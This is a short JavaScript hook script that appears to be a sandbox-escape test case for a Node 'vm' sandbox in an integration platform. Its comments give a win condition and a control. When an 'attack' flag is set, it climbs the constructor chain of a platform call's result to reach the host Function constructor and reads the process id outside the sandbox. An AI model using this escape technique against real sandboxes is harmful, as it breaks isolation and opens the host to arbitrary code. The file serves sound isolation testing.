// Walks from the result of a call.
// Class: platform-calls
// Win: the id holds the process id.
// Control: vm
const { exports: lookups } = require('integrator-api');
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const result = lookups.run({ _id: 'cached' });
  options.responseData[0].id = 'ESCAPED:' + result.data.constructor.constructor('return process.pid')();
  return options.responseData;
}
